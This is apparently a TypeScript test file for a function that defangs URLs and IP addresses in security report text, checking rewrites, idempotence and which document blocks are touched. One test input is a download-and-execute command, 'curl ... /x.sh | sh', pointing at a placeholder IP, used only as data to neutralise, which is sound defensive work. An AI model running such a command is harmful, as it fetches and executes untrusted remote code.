import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Block } from './blocks.ts';
import { defang, defangBlocks } from './defang.ts';

describe('defang', () => {
  it.each([
    ['curl http://203.0.113.7/x.sh | sh', 'curl hxxp://203[.]0[.]113[.]7/x.sh | sh'],
    ['HTTPS://evil.example.net:8443/a.b?c=d.e', 'HxxPS://evil[.]example[.]net:8443/a.b?c=d.e'],
    ['to 203.0.113.50:3333.', 'to 203[.]0[.]113[.]50:3333.'],
    ['pool.example.net and sub.pool.example.net', 'pool[.]example[.]net and sub.pool[.]example[.]net'],
  ])('makes %s unclickable', (text, expected) => {
    expect(defang(text, ['pool.example.net'])).toBe(expected);
  });

  it.each(['log4j-core 2.14.1', '/app/checkout.jar', 'shop/checkout:1.42.0', '1.2.3.4.5', 'a sentence. Another.'])(
    'leaves %s alone, because it is no address',
    (text) => {
      expect(defang(text, ['pool.example.net'])).toBe(text);
    },
  );

  it('changes nothing the second time', () => {
    fc.assert(
      fc.property(fc.oneof(fc.webUrl(), fc.ipV4(), fc.string({ unit: 'binary' })), (text) => {
        expect(defang(defang(text, ['a.example']), ['a.example'])).toBe(defang(text, ['a.example']));
      }),
    );
  });

  it('leaves no http address, wherever it stands', () => {
    fc.assert(
      fc.property(fc.string(), fc.webUrl(), fc.string(), (before, url, after) => {
        expect(defang(`${before} ${url}${after}`)).not.toMatch(/\bhttps?:\/\/[^\s/?#]/i);
      }),
    );
  });

  it('reaches every text of a document and no link, which is always ours', () => {
    const address = 'http://203.0.113.7/';
    const safe = 'hxxp://203[.]0[.]113[.]7/';
    const texts = (value: string): Block[] => [
      { type: 'heading', text: value },
      { type: 'paragraph', text: value },
      { type: 'code', text: value },
      { type: 'bullets', items: [value] },
      { type: 'facts', rows: [{ label: value, value }] },
    ];
    const link: Block = { type: 'link', text: 'Ticket', url: 'https://example.atlassian.net/browse/SEC-2' };
    expect(defangBlocks([...texts(address), link])).toEqual([...texts(safe), link]);
  });
});
